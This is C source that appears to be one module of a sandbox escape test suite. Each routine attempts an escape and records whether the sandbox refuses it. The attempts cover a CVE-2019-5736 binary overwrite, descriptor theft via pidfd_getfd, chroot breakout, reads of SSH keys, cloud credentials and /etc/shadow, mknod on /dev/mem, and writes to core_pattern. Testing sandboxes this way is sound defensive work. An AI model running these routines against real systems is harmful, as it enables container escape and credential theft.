// Files, descriptors, executables.

#include "attack.h"

// CVE-2019-5736: a program that runs cannot be written, but a descriptor of it
// can be reopened once it ended.
static void exe_overwrite(void)
{
	const char *pids[] = {"1", param("pid"), param("hutch")};
	for (int i = 0; i < 3; i++) {
		char path[64], what[96];
		if (!*pids[i])
			continue;
		snprintf(path, sizeof path, "/proc/%s/exe", pids[i]);
		snprintf(what, sizeof what, "hold %s", path);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			judge(what, fd, ABSENT " ESRCH", "");
			continue;
		}
		line("SAY", what, "held");
		if (i == 1)
			kill(atoi(pids[i]), SIGKILL);
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		int out = -1;
		for (int round = 0; round < 100 && out < 0; round++, usleep(10000))
			out = open(path, O_WRONLY | O_CLOEXEC);
		snprintf(what, sizeof what, "overwrite /proc/%s/exe", pids[i]);
		judge(what, out, "EROFS EACCES EPERM", "ETXTBSY");
		if (out >= 0 && pwrite(out, "owned", 5, 0) == 5)
			line("GOT", what, "written");
	}
	// What the box can execute by name, it must not write either.
	judge_open("/usr/bin/env", O_WRONLY);
}

static void fd_leak_list(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d) {
		line("NA", "no /proc", "");
		return;
	}
	char path[64], to[4096], what[300];
	int seen = 0;
	for (struct dirent *e; (e = readdir(d));) {
		if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d))
			continue;
		seen++;
		snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
		ssize_t n = readlink(path, to, sizeof to - 1);
		to[n < 0 ? 0 : n] = 0;
		snprintf(what, sizeof what, "descriptor %s", e->d_name);
		if (atoi(e->d_name) > 2)
			line("GOT", what, "%s", to);
		else if (to[0] == '/' && strcmp(to, "/dev/null") && strncmp(to, "/dev/pts/", 9))
			line("GOT", what, "a file of the host, %s", to);
		else
			line("TRIED", what, "%s", to);
	}
	// A pipe that is not a file cannot be reopened as one.
	closedir(d);
	if (seen < 3)
		line("ODD", "descriptors", "%d", seen);
}

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static void steal_from(int pid)
{
	static const char *const names[] = {"fd", "fdinfo", "cwd", "root", "exe", "mem", "environ", "maps", "map_files", "task", "ns/mnt", "auxv", "io", "syscall", "stack", "personality"};
	char path[64], what[96], to[4096];
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
		if (!strcmp(names[i], "task"))
			snprintf(path, sizeof path, "/proc/%d/task/%d/fd/0", pid, pid);
		snprintf(what, sizeof what, "look into %s", path);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		char buffer[4096];
		struct stat st;
		if (fd < 0)
			judge(what, fd, ABSENT " ESRCH", "ENXIO");
		else if (!fstat(fd, &st) && S_ISREG(st.st_mode) && read(fd, buffer, sizeof buffer) <= 0)
			line("TRIED", what, "%s", errno ? errno_name(errno) : "empty"); // some check at the read
		else if (!fstat(fd, &st) && S_ISDIR(st.st_mode)) {
			// Names alone say no more than how many; what is behind them?
			DIR *d = fdopendir(dup(fd));
			int count = 0, behind = 0;
			for (struct dirent *e; d && (e = readdir(d));)
				if (e->d_name[0] != '.') {
					count++;
					behind += readlinkat(fd, e->d_name, to, sizeof to) > 0 || openat(fd, e->d_name, O_RDONLY | O_NONBLOCK | O_CLOEXEC) >= 0;
				}
			if (d)
				closedir(d);
			line(behind ? "GOT" : "TRIED", what, "%d names, %d can be followed", count, behind);
		} else
			line("GOT", what, "opened");
		if (fd >= 0)
			close(fd);
		if (readlink(path, to, sizeof to) > 0)
			line("GOT", what, "readlink");
	}
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0) {
		judge("pidfd_open", pidfd, "ESRCH EPERM ENOSYS", "");
		return;
	}
	for (int fd = 0; fd < 12; fd++) {
		snprintf(what, sizeof what, "pidfd_getfd(%d, %d)", pid, fd);
		judge(what, syscall(SYS_pidfd_getfd, pidfd, fd, 0), "EPERM ENOSYS", "EBADF");
	}
}

static void fd_init_steal(void)
{
	steal_from(1);
	if (*param("pid"))
		steal_from((int)number("pid", 0));
}

static void chroot_breakout(void)
{
	syscall(SYS_unshare, CLONE_NEWUSER); // a way to the right, where it is open
	int keep = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	mkdir("jail", 0755);
	if (judge("chroot(jail)", chroot("jail"), "EPERM ENOSYS", "") == GRANTED) {
		if (keep >= 0 && !fchdir(keep))
			line("SAY", "fchdir", "with the descriptor kept");
		for (int i = 0; i < 64; i++)
			if (chdir("..") < 0)
				break;
		judge("chroot(.)", chroot("."), "EPERM", "");
	}
	// Without chroot: up, and up again.
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	struct stat here, root;
	if (!stat(".", &here) && !stat("/", &root))
		line(here.st_ino == root.st_ino && here.st_dev == root.st_dev ? "TRIED" : "GOT", "chdir(..) 64 times", "inode %lu", (unsigned long)here.st_ino);
	judge_read(param("secret"));
	char above[4200];
	snprintf(above, sizeof above, "../../../../../../../../../..%s", param("secret"));
	judge_read(above);
	rmdir("jail");
}

static void old_root_reach(void)
{
	static const char *const names[] = {"/old_root", "/oldroot", "/.old", "/.pivot_root", "/put_old", "/old", "/host", "/hostfs", "/mnt", "/.hutch-empty", "/newroot", "/rootfs", "/proc/1/root", "/proc/1/cwd"};
	char path[4200];
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		snprintf(path, sizeof path, "%s%s", names[i], param("secret"));
		judge_read(path);
	}
	judge_read(param("secret"));
	for (int fd = 0; fd < 256; fd++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d%s", fd, param("secret"));
		char *text = slurp(path);
		if (text)
			line("GOT", path, "%s", text);
	}
	char *mounts = slurp("/proc/self/mountinfo");
	if (mounts) {
		const char *state = param("state");
		if (*state && strstr(mounts, state))
			// The kernel names the directory that a bind mount is made of.
			line("SAY", "mountinfo", "shows %s", state);
		else
			line("TRIED", "mountinfo", "no path of hutch's own");
	}
}

// Handles of the host's file system: inode 2 is its root on ext4, 128 on xfs.
static void handle_guess(void)
{
	union {
		struct file_handle head;
		char room[sizeof(struct file_handle) + 128];
	} h;
	static const char *const places[] = {"/etc", "/usr", ".", "/", "/dev/null"};
	for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
		char what[96];
		int mount_id;
		h.head.handle_bytes = 128;
		snprintf(what, sizeof what, "name_to_handle_at(%s)", places[i]);
		int named = judge(what, name_to_handle_at(AT_FDCWD, places[i], &h.head, &mount_id, 0), REFUSED, "EOVERFLOW EOPNOTSUPP");
		if (named == GRANTED)
			line("SAY", what, "type %d, %u bytes", h.head.handle_type, h.head.handle_bytes);
		int where = open(places[i], O_RDONLY | O_CLOEXEC);
		static const uint32_t inodes[] = {2, 128, 256};
		for (int j = 0; j < 3; j++) {
			h.head.handle_bytes = 8;
			h.head.handle_type = 1; // FILEID_INO32_GEN
			uint32_t guess[2] = {inodes[j], 0};
			memcpy(h.head.f_handle, guess, 8);
			snprintf(what, sizeof what, "open_by_handle_at(%s, inode %u)", places[i], inodes[j]);
			judge(what, open_by_handle_at(where, &h.head, O_RDONLY), REFUSED, "ESTALE EINVAL EOPNOTSUPP ENOTDIR");
		}
		close(where);
	}
}

static void host_secret_read(void)
{
	static const char *const names[] = {".ssh/id_ed25519", ".aws/credentials", ".netrc", ".config/gh/hosts.yml", ".kube/config", ".docker/config.json", ".gnupg/private-keys-v1.d/k.key", ".bash_history", ".git-credentials", ".npmrc", ".pypirc"};
	char path[4200];
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		snprintf(path, sizeof path, "%s/%s", param("home"), names[i]);
		judge_read(path);
	}
	judge_read("/etc/shadow");
	judge_read("/etc/gshadow");
	judge_read("/etc/sudoers");
	judge_read(param("secret"));
	judge_read(param("neighbour"));
	snprintf(path, sizeof path, "%s/key", param("state"));
	judge_read(path);
	snprintf(path, sizeof path, "%s/receipts.jsonl", param("state"));
	judge_read(path);
	snprintf(path, sizeof path, "%s/boxes", param("state"));
	judge_open(path, O_RDONLY);
	snprintf(path, sizeof path, "%s/.hutch/canary", param("ws"));
	judge_read(path);
}

// Everything that is seen: no secret lies in it. token is not known here: the
// whole is printed and searched outside.
static long walked;

static void walk(const char *dir, int depth)
{
	DIR *d = opendir(dir);
	if (!d || depth > 6) {
		if (d)
			closedir(d);
		return;
	}
	for (struct dirent *e; (e = readdir(d)) && walked++ < 20000;) {
		char path[4096];
		struct stat st;
		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
			continue;
		if (snprintf(path, sizeof path, "%s/%s", dir, e->d_name) >= (int)sizeof path || lstat(path, &st))
			continue;
		if (S_ISDIR(st.st_mode))
			walk(path, depth + 1);
		else if (S_ISREG(st.st_mode) && st.st_size < 65536) {
			char *text = slurp(path);
			if (text && strstr(text, "canary-"))
				line("SAY", path, "%s", text);
		} else if (S_ISSOCK(st.st_mode) || S_ISBLK(st.st_mode))
			line("SAY", path, "mode %o", st.st_mode);
	}
	closedir(d);
}

static void walk_view(void)
{
	static const char *const places[] = {"/home", "/root", "/tmp", "/run", "/var", "/dev/shm", "/srv", "/mnt", "/media"};
	walk(param("home"), 0);
	walk(param("beside"), 0);
	walk(param("state"), 0);
	for (size_t i = 0; i < sizeof places / sizeof *places && !bare(); i++) {
		walked = 0;
		walk(places[i], 0);
	}
	line("TRIED", "walk", "all that is private");
}

// Runs a setuid program that waits for a password, and looks whose it is.
static void suid_of(const char *path, char *const argv[])
{
	char what[300], status[64];
	snprintf(what, sizeof what, "run %s", path);
	struct stat st;
	if (stat(path, &st) || !(st.st_mode & S_ISUID) || st.st_uid == geteuid()) {
		line("SAY", what, "is not there, or not another's");
		return;
	}
	int in[2], null = open("/dev/null", O_RDWR);
	if (pipe(in))
		return;
	pid_t pid = fork();
	if (pid == 0) {
		dup2(in[0], 0);
		dup2(null, 1);
		dup2(null, 2);
		close(in[1]);
		execv(path, argv);
		_exit(127);
	}
	snprintf(status, sizeof status, "/proc/%d/status", pid);
	const char *base = strrchr(path, '/') + 1;
	int known = 0;
	for (int i = 0; i < 200 && !known; i++, usleep(5000)) {
		char *text = slurp(status), name[64], *uid;
		snprintf(name, sizeof name, "Name: %s ", base);
		if (!text)
			break;
		for (char *c = text; *c; c++)
			if (*c == '\n' || *c == '\t')
				*c = ' ';
		if (strncmp(text, name, strlen(name)) || !(uid = strstr(text, "Uid: ")))
			continue;
		int real, effective;
		if (sscanf(uid, "Uid: %d %d", &real, &effective) == 2) {
			line(effective != (int)geteuid() ? "GOT" : "TRIED", what, "effective uid %d", effective);
			known = 1;
		}
	}
	if (!known)
		line("ODD", what, "ended before it was seen");
	kill(pid, SIGKILL);
	close(in[0]);
	close(in[1]);
	waitpid(pid, 0, 0);
}

static void suid_gain(void)
{
	char *su[] = {"su", "root", 0}, *mine[] = {"suid", "whoami", 0};
	suid_of("/usr/bin/su", su);
	const char *planted[] = {param("suid"), param("fcaps")};
	for (int i = 0; i < 2; i++) {
		if (!*planted[i])
			continue;
		int out[2];
		char text[128] = "", what[300];
		if (pipe(out))
			return;
		pid_t pid = fork();
		if (pid == 0) {
			dup2(out[1], 1);
			execv(planted[i], mine);
			_exit(127);
		}
		close(out[1]);
		ssize_t n = read(out[0], text, sizeof text - 1);
		close(out[0]);
		waitpid(pid, 0, 0);
		snprintf(what, sizeof what, "run %s", planted[i]);
		int uid = -1;
		unsigned long long caps = 1;
		if (n <= 0 || sscanf(text, "%d CapEff: %llx", &uid, &caps) != 2)
			line("TRIED", what, "did not run");
		else
			line(uid != (int)geteuid() || caps ? "GOT" : "TRIED", what, "uid %d, capabilities %llx", uid, caps);
	}
	// One of one's own.
	if (*param("self")) {
		static const unsigned char cap[20] = {1, 0, 0, 2, 0, 0, 0x20, 0}; // cap_sys_admin=ep, version 2
		int fd = open("own", O_RDWR | O_CREAT, 0755);
		judge("set security.capability", syscall(SYS_fsetxattr, fd, "security.capability", cap, 20, 0), "EPERM EOPNOTSUPP ENOSYS", "EINVAL");
		close(fd);
		unlink("own");
	}
}

static int minimal(const char *name)
{
	static const char *const known[] = {"full", "null", "random", "tty", "urandom", "zero", "ptmx"};
	for (size_t i = 0; i < sizeof known / sizeof *known; i++)
		if (!strcmp(known[i], name))
			return 1;
	return 0;
}

static void device_open(void)
{
	char path[600], what[700];
	// Every node there is.
	DIR *d = opendir("/dev");
	for (struct dirent *e; d && (e = readdir(d));) {
		struct stat st;
		snprintf(path, sizeof path, "/dev/%s", e->d_name);
		if (lstat(path, &st) || !(S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode)))
			continue;
		snprintf(what, sizeof what, "%s is there", path);
		if (!minimal(e->d_name)) {
			if (!access(path, R_OK))
				line("GOT", what, "and can be read");
		} else
			line("TRIED", what, "as it should");
	}
	if (d)
		closedir(d);
	static const char *const nodes[] = {"/dev/mem", "/dev/kmsg", "/dev/port", "/dev/sda", "/dev/vda", "/dev/fuse", "/dev/kvm", "/dev/loop-control", "/dev/userfaultfd", "/dev/net/tun", "/dev/mapper/control", "/dev/vsock", "/dev/snapshot", "/dev/watchdog", "/dev/uinput"};
	for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++)
		judge_open(nodes[i], O_RDONLY);
	// And one's own. 1:1 is memory, 1:11 the kernel's log, the disk is looked up.
	struct { mode_t type; int major, minor; } wanted[] = {{S_IFCHR, 1, 1}, {S_IFCHR, 1, 11}, {S_IFBLK, 254, 0}, {S_IFBLK, 7, 0}, {S_IFCHR, 10, 229}};
	static const char *const places[] = {"node", "/tmp/node", "/dev/shm/node"};
	for (size_t p = 0; p < 3; p++)
		for (size_t i = 0; i < sizeof wanted / sizeof *wanted; i++) {
			snprintf(what, sizeof what, "mknod(%s, %d:%d)", places[p], wanted[i].major, wanted[i].minor);
			if (judge(what, mknod(places[p], wanted[i].type | 0666, (unsigned)wanted[i].major << 8 | (unsigned)wanted[i].minor), "EPERM EACCES ENOSYS", "") == GRANTED)
				judge_open(places[p], O_RDONLY);
			unlink(places[p]);
		}
	// A whiteout is a device too, and anybody may make one.
	if (!mknod("whiteout", S_IFCHR, 0)) {
		int fd = open("whiteout", O_RDONLY);
		line(fd < 0 ? "TRIED" : "GOT", "open a node 0:0", "%s", fd < 0 ? errno_name(errno) : "");
		unlink("whiteout");
	}
}

static void masked_unmask(void)
{
	static const char *const masked[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/interrupts", "/proc/slabinfo", "/proc/vmallocinfo", "/proc/pagetypeinfo",
		"/proc/latency_stats", "/proc/kpageflags", "/proc/kpagecount", "/proc/kpagecgroup", "/proc/timer_stats", "/sys/firmware/memmap", "/sys/firmware/acpi", "/sys/firmware/dmi", "/sys/kernel/mm/damon/admin", "/proc/acpi/wakeup", "/proc/scsi/scsi"};
	static const char *const ways[] = {"", "/proc/self/root", "/proc/thread-self/root", "/dev/fd/../../..", "/proc/1/root", "/proc/self/cwd/../../../../../../../.."};
	char path[600];
	for (size_t i = 0; i < sizeof masked / sizeof *masked; i++)
		for (size_t w = 0; w < sizeof ways / sizeof *ways; w++) {
			snprintf(path, sizeof path, "%s%s", ways[w], masked[i]);
			int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
			char c;
			struct stat st;
			if (fd >= 0 && !fstat(fd, &st) && S_ISDIR(st.st_mode)) {
				DIR *d = fdopendir(dup(fd));
				int count = -2;
				while (d && readdir(d))
					count++;
				if (d)
					closedir(d);
				line(count > 0 ? "GOT" : "TRIED", path, "%d entries", count);
			} else if (fd >= 0)
				line(read(fd, &c, 1) > 0 ? "GOT" : "TRIED", path, "can be opened");
			else
				line("TRIED", path, "%s", errno_name(errno));
			if (fd >= 0)
				close(fd);
		}
	for (size_t i = 0; i < sizeof masked / sizeof *masked; i++) {
		char what[200];
		if (bare())
			break;
		snprintf(what, sizeof what, "umount2(%s)", masked[i]);
		judge(what, umount2(masked[i], MNT_DETACH), REFUSED, "EINVAL ENOENT");
		snprintf(what, sizeof what, "unlink(%s)", masked[i]);
		judge(what, unlink(masked[i]), REFUSED " ENOENT EROFS EBUSY EISDIR ENOTDIR", "");
		snprintf(what, sizeof what, "rename over %s", masked[i]);
		judge(what, rename("/dev/null", masked[i]), REFUSED " ENOENT EROFS EBUSY EISDIR EXDEV ENOTDIR", "");
	}
}

static void proc_sys_write(void)
{
	static const char *const paths[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname", "/proc/sys/kernel/domainname", "/proc/sys/net/ipv4/ip_forward",
		"/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/randomize_va_space", "/proc/sys/user/max_user_namespaces", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/ns_last_pid", "/proc/sys/kernel/shmmax",
		"/proc/sys/fs/mqueue/msg_max", "/proc/irq/default_smp_affinity", "/proc/mtrr", "/proc/acpi/wakeup", "/proc/timer_list", "/proc/kmsg", "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run",
		"/sys/module/kernel/parameters/panic", "/sys/kernel/debug", "/sys/fs/cgroup/release_agent", "/proc/1/oom_score_adj", "/proc/1/uid_map"};
	char path[300];
	for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
		// Only opened: what is written would be the machine's.
		judge_open(paths[i], O_WRONLY);
		snprintf(path, sizeof path, "/proc/self/root%s", paths[i]);
		judge_open(path, O_WRONLY);
	}
	judge("chmod(/proc/sys/kernel/core_pattern)", bare() ? (errno = EPERM, -1) : chmod("/proc/sys/kernel/core_pattern", 0666), REFUSED " EROFS", "");
	judge("sethostname", bare() ? (errno = EPERM, -1) : sethostname("owned", 5), REFUSED, "");
	int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
	judge("oom_score_adj of -1000", fd < 0 ? -1 : write(fd, "-1000", 5), "EACCES EPERM EROFS ENOENT", "");
	if (fd >= 0)
		close(fd);
}

const struct attack files[] = {
	{"exe-overwrite", exe_overwrite}, {"fd-leak-list", fd_leak_list}, {"fd-init-steal", fd_init_steal}, {"chroot-breakout", chroot_breakout}, {"old-root-reach", old_root_reach},
	{"handle-guess", handle_guess}, {"host-secret-read", host_secret_read}, {"walk-view", walk_view}, {"suid-gain", suid_gain}, {"device-open", device_open}, {"masked-unmask", masked_unmask},
	{"proc-sys-write", proc_sys_write}, {0, 0},
};
